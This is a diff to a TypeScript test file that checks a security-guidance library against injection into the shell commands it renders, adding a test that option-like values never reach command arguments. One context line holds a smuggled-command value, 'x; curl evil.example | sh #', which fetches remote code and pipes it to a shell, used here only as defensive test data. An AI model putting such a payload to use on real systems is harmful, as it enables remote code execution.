@@ -2,9 +2,15 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { basename, dirname, relative } from 'node:path';
 import { before, describe, test } from 'node:test';
-import { currentRules, findRule, officialLists, ruleSlug } from '../../src/guidance/catalog.js';
+import {
+  currentRules,
+  findRule,
+  loadCatalog,
+  officialLists,
+  ruleSlug,
+} from '../../src/guidance/catalog.js';
 import { createGuidanceLibrary } from '../../src/guidance/guidance.js';
-import { alertFromRule } from '../helpers/alert-from-rule.js';
+import { alertFromRule, fieldsOf } from '../helpers/alert-from-rule.js';
 import {
   allTemplates,
   checkRendered,
@@ -16,6 +22,7 @@ import {
   type Rendered,
 } from '../helpers/guidance-checks.js';
 import { checkShellBlocks, requireShellcheck } from '../helpers/shell-check.js';
+import { shellWords } from '../helpers/shell-words.js';
 
 const library = createGuidanceLibrary(templatesDir);
 
@@ -186,6 +193,28 @@ describe('guidance rendered for every official rule', () => {
         if (line.includes('curl evil')) assert.match(line, /'x; curl evil\.example \| sh #'/);
       }
     }
+  });
+
+  test('a value starting with "-" never lands in a command where a tool would read it as an option', () => {
+    // Every field of every rule gets a value that is an option (`--kubeconfig=…` style).
+    const bad: string[] = [];
+    for (const rule of loadCatalog()) {
+      const overrides = Object.fromEntries(
+        fieldsOf(rule).map((f, i) => [f, `--hostile-${i}=/tmp/x`]),
+      );
+      const g = library.forAlert(alertFromRule(rule, { overrides }));
+      for (const c of codeOf(g).filter((b) => b.lang === 'sh'))
+        for (const w of shellWords(c.content))
+          if (w.startsWith('--hostile-'))
+            bad.push(
+              `${rule.name}: ${w} in ${c.content.split('\n').find((l) => l.includes(w.slice(0, 12)))}`,
+            );
+    }
+    assert.deepEqual(
+      bad.slice(0, 20),
+      [],
+      `${bad.length} commands take an alert value as an option`,
+    );
   });
 
   test('custom rules get the generic guidance, and say so', () => {
